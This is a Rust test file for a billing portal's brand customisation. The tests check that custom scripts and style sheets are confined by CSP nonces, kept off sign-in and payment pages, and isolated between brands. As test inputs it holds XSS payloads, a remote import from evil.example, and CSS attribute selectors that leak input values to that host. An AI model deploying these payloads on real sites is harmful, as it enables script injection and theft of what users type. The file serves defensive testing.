//! A brand's looks on its pages: what is loaded where, and what never is.

use axum::http::{StatusCode, header};
use portico_billing::attempt::AttemptState;
use portico_billing::brand::{Brand, Custom, Font, LegalLink, Origin, Theme};
use portico_portal::{Access, table};

use crate::browser::{Answer, Browser};
use crate::fake::paying::attempt;
use crate::fake::{Person, brand};

/// Pages on which people sign in, prove who they are, see how they pay, or pay.
const SECRETS: [&str; 10] = [
    "/profile",
    "/security",
    "/billing-information",
    "/payment-methods",
    "/pay",
    "/refill",
    "/pay/00000000-0000-0000-0000-000000000028",
    "/sandbox/0123456789ABCDEFGHJK",
    "/credit-uses/00000000-0000-0000-0000-00000000005f",
    "/signed-out",
];

fn origin(text: &str) -> Origin {
    text.to_owned().try_into().unwrap()
}

fn dressed(custom: Custom) -> Brand {
    Brand { custom, ..brand() }
}

fn with_script(script: &str) -> Custom {
    Custom {
        script: script.to_owned(),
        origins: vec![origin("https://cdn.example")],
        ..Custom::default()
    }
}

/// A browser of somebody who is signed in at a brand with these looks.
fn at(brand: Brand) -> Browser {
    let browser = Browser::signed_in(Person::ana());
    browser.core.set_brand("localhost", brand);
    browser
}

fn policy(answer: &Answer) -> &str {
    answer.header(header::CONTENT_SECURITY_POLICY)
}

fn scripts(answer: &Answer) -> Vec<String> {
    answer.attributes("script[nonce]", "src")
}

#[tokio::test]
async fn inj_05_a_script_is_named_with_its_hash_and_a_nonce_and_runs_as_a_file() {
    let mut browser = at(dressed(with_script("document.title += '!'")));
    let page = browser.get("/invoices").await;
    let [script] = &scripts(&page)[..] else { panic!("one script, {:?}", scripts(&page)) };
    assert!(script.starts_with("/brand/custom.js?v="), "{script}");
    let nonce = page.attributes("script[nonce]", "nonce").remove(0);
    assert!(policy(&page).contains(&format!("script-src 'self' 'nonce-{nonce}'; ")));
    assert!(policy(&page).contains("img-src 'self' data: https://cdn.example; "));
    assert!(page.attributes("script[nonce]", "integrity")[0].starts_with("sha256-"));
    let file = browser.get(script).await;
    assert_eq!(file.body, "document.title += '!'");
    assert_eq!(file.header(header::CONTENT_TYPE), "text/javascript; charset=utf-8");
    assert_eq!(policy(&file), "default-src 'none'; sandbox");
}

#[tokio::test]
async fn inj_05_a_script_cannot_leave_its_file() {
    for code in [
        "x = '</script><script>alert(1)</script>'",
        "x = '<!--<script>'; alert(1) // -->",
        "/* ]]></script><img src=x onerror=alert(1)> */",
        "//# sourceMappingURL=https://evil.example/a.map",
        "x = '\u{2028}\u{2029}\u{feff}'; import('https://evil.example/a.js')",
    ] {
        let mut browser = at(dressed(with_script(code)));
        let page = browser.get("/invoices").await;
        assert!(!page.body.contains(code) && !page.body.contains("evil.example"), "{code}");
        assert!(!page.body.contains("alert(1)"), "{code}");
        let [script] = &scripts(&page)[..] else { panic!("one script, {:?}", scripts(&page)) };
        let file = browser.get(script).await;
        assert_eq!(file.body, code);
        assert_eq!(file.header(header::CONTENT_TYPE), "text/javascript; charset=utf-8");
        assert_eq!(file.header("x-content-type-options"), "nosniff");
    }
}

#[tokio::test]
async fn inj_05_a_reference_is_loaded_from_an_allowed_origin_alone() {
    let tag = "<script src=\"https://cdn.example/a.js\"></script>";
    let page = at(dressed(with_script(tag))).get("/").await;
    assert_eq!(scripts(&page), ["https://cdn.example/a.js"]);
    // What was stored past the check does not run either.
    let tag = "<script src=\"https://evil.example/a.js\"></script>";
    for script in [tag, "<script>alert(1)</script>", "<img src=x onerror=alert(1)>"] {
        let page = at(dressed(with_script(script))).get("/").await;
        assert_eq!(scripts(&page), Vec::<String>::new(), "{script}");
        assert!(!policy(&page).contains("nonce") && !page.body.contains("evil.example"));
    }
}

#[tokio::test]
async fn inj_05_prv_03_no_script_runs_where_there_are_secrets() {
    let mut browser = at(dressed(with_script("steal()")));
    browser.core.set_attempt(attempt(AttemptState::NeedsAction));
    for path in SECRETS {
        let page = browser.get(path).await;
        assert_eq!(page.status, StatusCode::OK, "{path}");
        assert!(!page.body.contains("custom.js") && !page.body.contains("htmx.min"), "{path}");
        assert!(policy(&page).contains("script-src 'self'; "), "{path}: {}", policy(&page));
        assert!(!policy(&page).contains("cdn.example"), "{path}: {}", policy(&page));
    }
    // A script on another page cannot read them either.
    browser.headers.push(("sec-fetch-dest", "empty".to_owned()));
    for path in SECRETS {
        assert_eq!(browser.get(path).await.status, StatusCode::FORBIDDEN, "{path}");
    }
    assert_eq!(browser.get("/invoices").await.status, StatusCode::OK);
    // Nor anywhere for those who are not signed in.
    let mut stranger = Browser::new();
    stranger.core.set_brand("localhost", dressed(with_script("steal()")));
    for route in table().iter().filter(|it| it.access == Access::Public && it.method == "GET") {
        let path = route.path.replace("{id}", "1").replace("{token}", "link");
        let page = stranger.get(&path).await;
        assert!(!page.body.contains("/brand/custom.js"), "{path}");
        assert!(!policy(&page).contains("nonce"), "{path}");
    }
}

#[tokio::test]
async fn inj_05_a_style_sheet_is_served_as_the_cage_let_it_out() {
    let css = |css: &str| dressed(Custom { css: css.to_owned(), ..Custom::default() });
    let mut browser = at(css(".card { color: red }"));
    let page = browser.get("/").await;
    let sheets = page.attributes("link[rel=stylesheet]", "href");
    let own = sheets.iter().find(|it| it.starts_with("/brand/custom.css?v=")).unwrap();
    let sheet = browser.get(own).await;
    assert!(sheet.body.starts_with("@layer brand{.card{color:red}"), "{}", sheet.body);
    for hostile in [
        "@import url(https://evil.example/a.css);",
        "input[value^=a] { background: url(https://evil.example/a) }",
        "body { position: fixed; z-index: 999999 }",
        "a { behavior: url(/x.htc) }",
        "</style><script>alert(1)</script>",
    ] {
        let mut browser = at(css(hostile));
        let page = browser.get("/").await;
        assert!(!page.body.contains("custom.css"), "{hostile}");
        assert_eq!(browser.get("/brand/custom.css").await.status, StatusCode::NOT_FOUND);
    }
}

#[tokio::test]
async fn ten_06_what_one_brand_does_changes_nothing_on_another() {
    let hostile = Brand {
        theme: Theme { accent: "#ff0000;}".to_owned(), radius_px: 255, ..Theme::default() },
        embed_origins: vec![origin("https://evil.example")],
        footer: Some("</footer><script>alert(1)</script>".to_owned()),
        ..dressed(Custom {
            css: "body { display: none }".to_owned(),
            legal_links: vec![LegalLink {
                label: "<b>x</b>".to_owned(),
                url: "https://evil.example/".to_owned(),
            }],
            ..with_script("steal()")
        })
    };
    let mut browser = Browser::signed_in(Person::ana());
    let paths = ["/", "/invoices", "/payments", "/profile", "/security", "/brand/theme.css"];
    let mut before = Vec::new();
    for path in paths {
        before.push(browser.get(path).await);
    }
    let id = crate::fake::id(77);
    browser.core.set_brand("other.localhost", Brand { id, ..hostile });
    browser.host = "other.localhost";
    assert!(browser.get("/").await.body.contains("custom.js"));
    browser.host = "localhost";
    for (path, before) in paths.into_iter().zip(before) {
        let after = browser.get(path).await;
        assert_eq!((after.status, after.body), (before.status, before.body), "{path}");
        assert_eq!(after.headers, before.headers, "{path}");
    }
}

#[tokio::test]
async fn ses_07_a_brand_says_who_may_frame_it() {
    let embed_origins = vec![origin("https://app.example")];
    let mut browser = at(Brand { embed_origins, ..brand() });
    for path in ["/", "/security", "/sign-in", "/absent", "/brand/theme.css"] {
        let page = browser.get(path).await;
        if path != "/brand/theme.css" {
            assert!(policy(&page).contains("frame-ancestors https://app.example;"), "{path}");
        }
        assert!(!page.headers.contains_key(header::X_FRAME_OPTIONS), "{path}");
    }
    let page = at(brand()).get("/").await;
    assert!(policy(&page).contains("frame-ancestors 'none';"));
    assert_eq!(page.header(header::X_FRAME_OPTIONS), "DENY");
}

#[tokio::test]
async fn prv_09_a_brand_without_extras_loads_nothing_foreign() {
    let page = at(brand()).get("/").await;
    for (selector, name) in [("link", "href"), ("script", "src"), ("img", "src")] {
        for address in page.attributes(selector, name) {
            assert!(address.starts_with('/') && !address.starts_with("//"), "{address}");
        }
    }
    assert!(!policy(&page).contains("http"), "{}", policy(&page));
}

#[tokio::test]
async fn pages_show_logos_icon_typeface_and_links() {
    let theme = Theme {
        logo: Some(crate::fake::id(1)),
        dark_logo: Some(crate::fake::id(2)),
        favicon: Some(crate::fake::id(3)),
        font: Font::Serif,
        ..Theme::default()
    };
    let link = LegalLink {
        label: "Privacy & more".to_owned(),
        url: "https://acme.example/p?a=1&b=2".to_owned(),
    };
    let custom = Custom { legal_links: vec![link], ..Custom::default() };
    let mut browser = at(Brand { theme, ..dressed(custom) });
    let page = browser.get("/").await;
    let files = page.attributes(".side .brand-logo", "data-on");
    assert_eq!(files, ["light", "dark"]);
    assert!(page.attributes("link[rel=icon]", "href")[0].starts_with("/brand/files/"));
    assert_eq!(page.attributes("link[rel=preload]", "href"), Vec::<String>::new());
    assert!(page.attributes(".help a", "href").contains(&"https://acme.example/p?a=1&b=2".into()));
    assert!(browser.get("/brand/theme.css").await.body.contains("--font: ui-serif"));
}

#[tokio::test]
async fn ses_07_a_frame_of_a_foreign_site_has_cookies_of_its_own() {
    let embed_origins = vec![origin("https://app.example")];
    let mut browser = at(Brand { embed_origins, ..brand() });
    browser.scheme = portico_ui::origin::Scheme::Https;
    let secret = browser.cookies.remove("portico").unwrap();
    browser.cookies.insert("__Host-portico".to_owned(), secret);
    assert_eq!(browser.get("/invoices").await.status, StatusCode::OK);
    browser.headers.push(("sec-fetch-dest", "iframe".to_owned()));
    browser.headers.push(("sec-fetch-site", "cross-site".to_owned()));
    let page = browser.get("/invoices").await;
    assert!(page.location().starts_with("/sign-in"), "{}", page.status);
    let page = browser.get("/sign-in").await;
    let cookie = page.header(header::SET_COOKIE);
    assert!(cookie.starts_with("__Host-embedded-visitor="), "{cookie}");
    assert!(cookie.contains("SameSite=None") && cookie.contains("Partitioned"), "{cookie}");
    assert_eq!(page.attributes("a[target=_blank]", "href"), ["/sign-in"]);
}
